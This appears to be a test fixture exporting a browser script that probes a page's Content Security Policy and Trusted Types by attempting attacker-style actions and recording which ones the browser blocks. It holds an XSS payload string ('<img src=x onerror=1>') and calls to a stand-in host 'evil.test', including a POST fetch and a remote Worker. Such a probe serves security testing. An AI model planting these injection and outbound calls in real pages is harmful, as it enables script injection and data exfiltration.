/** What an attacker's script would try in a page of ours; the browser answers what became of each deed. */
export const breakPolicy = `(async () => {
  const attempt = (deed) => {
    try {
      deed();
      return 'done';
    } catch (error) {
      return error.name;
    }
  };
  const broken = new Set();
  addEventListener('securitypolicyviolation', (event) => broken.add(event.effectiveDirective));
  const style = document.createElement('style');
  style.textContent = 'body { opacity: 0.5; }';
  document.head.append(style);
  const frame = document.createElement('iframe');
  frame.src = 'https://evil.test/';
  document.body.append(frame);
  new Image().src = 'https://evil.test/x.png';
  const found = {
    markup: attempt(() => { document.createElement('p').innerHTML = '<img src=x onerror=1>'; }),
    scriptText: attempt(() => { document.createElement('script').text = 'document.title = 1'; }),
    strangersWorker: attempt(() => new Worker('https://evil.test/worker.js')),
    scriptAsWorker: attempt(() => new Worker('/first-paint.js').terminate()),
    ownWorker: attempt(() => new Worker('/service-worker.js').terminate()),
    policyOfItsOwn: attempt(() => trustedTypes.createPolicy('mine', {})),
    opacity: getComputedStyle(document.body).opacity,
    sent: await fetch('https://evil.test/', { method: 'POST' }).catch(() => 'not sent'),
  };
  await new Promise((resolve) => setTimeout(resolve, 300));
  return { ...found, broken: [...broken].sort() };
})()`;
